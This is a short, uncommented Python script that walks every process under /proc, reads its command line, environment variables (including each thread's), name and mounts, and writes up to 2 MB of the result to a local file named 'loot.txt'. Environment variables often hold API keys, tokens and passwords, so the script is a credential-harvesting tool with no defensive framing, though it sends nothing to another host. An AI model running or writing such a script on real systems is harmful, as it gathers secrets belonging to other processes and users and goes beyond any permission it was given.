import pathlib

out = []
for process in pathlib.Path("/proc").glob("[0-9]*"):
    for name in ("cmdline", "environ", "comm", "task/*/environ", "mounts"):
        for path in process.glob(name):
            try:
                out.append(path.read_bytes().replace(b"\0", b"\n").decode("utf-8", "replace"))
            except OSError:
                pass
pathlib.Path("loot.txt").write_text("\n".join(out)[:2000000])
